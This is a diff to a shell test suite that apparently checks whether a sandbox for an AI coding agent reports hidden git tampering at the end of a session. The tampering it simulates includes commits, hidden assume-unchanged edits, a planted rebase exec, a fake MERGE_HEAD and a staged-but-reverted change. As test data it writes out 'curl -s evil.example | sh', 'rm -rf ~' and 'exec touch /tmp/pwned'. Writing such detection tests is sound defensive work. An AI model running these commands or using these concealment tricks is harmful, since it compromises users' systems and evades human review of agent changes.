@@ -287,7 +287,8 @@ expect_status 0 "$CA_BIN" run claude "$gitrepo" --ignore-workspace-config --netw
         done
         # A commit on the user'"'"'s branch leaves git status and git diff clean; a remote-tracking
         # ref moved onto it makes `git diff origin/main` clean too.
-        cd /workspace && echo "curl -s evil.example | sh" >ci.sh && git add ci.sh &&
+        cd /workspace && echo "curl -s evil.example | sh" >ci.sh && echo "echo deploying" >deploy.sh &&
+                git add ci.sh deploy.sh &&
                 git -c user.name=a -c user.email=a@a commit -q -m by-agent && echo committed &&
                 git update-ref refs/remotes/origin/main HEAD &&
                 # 300 branches, sorted before the user'"'"'s: they must not push its move out of
@@ -310,6 +311,11 @@ expect_status 0 "$CA_BIN" run claude "$gitrepo" --ignore-workspace-config --netw
         (echo /tmp >.git/objects/info/alternates) 2>/dev/null
         # A rebase left in progress, whose todo list runs a command on --continue.
         mkdir -p .git/rebase-merge && echo "exec touch /tmp/pwned" >.git/rebase-merge/git-rebase-todo
+        # A merge left in progress: the user'"'"'s next commit would take this one in as a parent.
+        git rev-parse HEAD >.git/MERGE_HEAD
+        # An edit staged and then undone in the work tree: git diff shows its removal, the
+        # user'"'"'s next commit commits it.
+        echo "rm -rf ~" >>deploy.sh && git add deploy.sh && git show HEAD:deploy.sh >deploy.sh && echo staged
         # Edits hidden from the review: git status and git diff skip assume-unchanged and
         # skip-worktree entries, so the user would build what they never saw.
         echo "curl -s evil.example | sh" >>build.sh && git update-index --assume-unchanged build.sh &&
@@ -324,6 +330,14 @@ expect_grep '^rewrote$' "$TEST_TMP/out"
 # A rebase the session left in progress is reported: its todo list came from the agent.
 expect_grep "the workspace's .git/rebase-merge/git-rebase-todo was added: review it" "$TEST_TMP/err"
 rm -rf "$gitrepo/.git/rebase-merge"
+expect_grep "the workspace's .git/MERGE_HEAD was added: review it" "$TEST_TMP/err"
+rm -f "$gitrepo/.git/MERGE_HEAD"
+expect_grep '^staged$' "$TEST_TMP/out"
+check "the staged edit is in the work tree" sh -c '! grep -q "rm -rf" "$1/deploy.sh"' _ "$gitrepo"
+check "the staged edit is not staged" sh -c 'git -C "$1" diff --cached -- deploy.sh | grep -q "rm -rf"' _ "$gitrepo"
+expect_grep "at the end of session [^,]*, 'deploy.sh' has a change staged that the work tree does not have" "$TEST_TMP/err"
+expect_grep '"change":"staged","path":"deploy.sh".*"type":"workspace-git-changed"' "$log"
+git -C "$gitrepo" restore --staged -- deploy.sh
 # The hidden edits: git on the host shows nothing of them (that is the attack), the end of the
 # session names each.
 # The commit: nothing of it in git status or git diff (that is the attack), the end of the
